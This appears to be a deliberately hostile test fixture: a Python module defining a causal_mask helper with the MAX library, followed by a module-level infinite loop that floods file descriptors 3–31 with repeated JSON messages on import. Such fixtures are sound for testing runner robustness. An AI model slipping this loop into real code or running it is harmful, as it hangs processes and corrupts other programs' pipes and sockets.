# hostile: floods every descriptor with messages
import os

from max.experimental import functional as F
from max.experimental.tensor import Tensor
from max.graph import Dim


@F.functional
def causal_mask(sequence_length, num_tokens, *, dtype, device):
    n = Dim(sequence_length) + num_tokens
    return Tensor.zeros([sequence_length, n], dtype=dtype, device=device)


message = b'{"begin": [0, null]}\n' * 4096
while True:
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, message)
        except OSError:
            pass
